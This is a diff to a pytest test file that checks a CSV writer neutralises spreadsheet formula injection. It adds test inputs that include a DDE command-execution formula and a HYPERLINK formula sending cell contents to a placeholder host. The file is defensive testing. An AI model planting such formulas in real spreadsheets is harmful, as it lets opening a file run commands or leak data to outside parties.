@@ -23,7 +23,13 @@ def test_any_text_comes_back_equal_and_none_of_it_is_a_formula(rows, tmp_path_fa
     assert not any(text[:1] in "=+-@" for name in raw for text in raw[name] if text)
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+44", "-", "@SUM(A1)", "'quoted", "=cmd|' /C calc'!A0"])
+LINK = '=HYPERLINK("http://example.org/?" & A1, "Total")'
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["=1+1", "+44", "-", "@SUM(A1)", "'quoted", "=cmd|' /C calc'!A0", LINK, "\t=1+1", "＝1+1"],
+)
 def test_a_formula_is_written_as_quoted_text(text, tmp_path):
     write_table(pd.DataFrame({"text": [text]}), tmp_path / "t.csv")
     assert (tmp_path / "t.csv").read_text().splitlines()[1].lstrip('"').startswith("'" + text[0])
